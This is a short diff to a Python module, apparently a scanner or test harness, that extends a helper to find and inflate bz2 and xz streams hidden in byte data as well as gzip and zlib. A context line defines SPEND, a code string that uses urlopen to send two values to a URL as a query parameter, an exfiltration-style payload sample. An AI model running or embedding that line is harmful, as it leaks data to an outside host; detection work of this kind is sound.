@@ -17,6 +17,8 @@ from __future__ import annotations
 
 import base64
 import binascii
+import bz2
+import lzma
 import os
 import pickle
 import re
@@ -43,8 +45,14 @@ SPEND = "import urllib.request as u\nu.urlopen(URL + '?d=' + E[0] + ',' + E[1]).
 
 
 def _streams(data: bytes) -> list[bytes]:
-    """Every gzip or zlib stream that starts somewhere in ``data``, inflated."""
+    """Every gzip, zlib, bz2 or xz stream that starts somewhere in ``data``, inflated."""
     out = []
+    for magic, new in ((b"BZh", bz2.BZ2Decompressor), (b"\xfd7zXZ\x00", lzma.LZMADecompressor)):
+        for m in re.finditer(re.escape(magic), data):
+            try:
+                out.append(new().decompress(data[m.start():]))
+            except (OSError, EOFError, lzma.LZMAError):
+                continue
     for magic, wbits in ((b"\x1f\x8b", 31), (b"x\x9c", 15), (b"x\x01", 15), (b"x\xda", 15)):
         for m in re.finditer(re.escape(magic), data):
             try:
